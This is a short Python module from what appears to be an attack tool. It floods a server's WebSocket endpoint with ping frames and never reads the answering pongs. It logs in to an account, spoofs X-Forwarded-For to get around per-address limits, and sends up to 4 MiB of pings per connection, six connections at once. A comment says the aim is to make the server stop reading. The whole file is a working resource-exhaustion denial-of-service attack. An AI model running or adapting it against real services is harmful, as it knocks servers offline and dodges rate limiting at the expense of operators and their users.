"""Pings on a live line whose answers are never read: each is owed a pong of the same size."""

import asyncio

from .peer import frame

ABOUT = "WebSocket pings without reading the pongs"
AT_ONCE = 6
PAUSE = 1.0
# Bytes of pings on one connection at most.
MOST = 4 << 20


async def strike(attack):
    signed, _ = await attack.account()
    _, writer = await attack.peer.upgrade("/api/live", {**signed, "X-Forwarded-For": attack.address()}, window=1024)
    try:
        pings = frame(9, b"p" * 125) * 200
        for _ in range(MOST // len(pings)):
            writer.write(pings)
            # A server that stops reading is what is wanted of it; the flood ends then.
            await asyncio.wait_for(writer.drain(), 5)
            await asyncio.sleep(0.01)
    finally:
        writer.transport.abort()
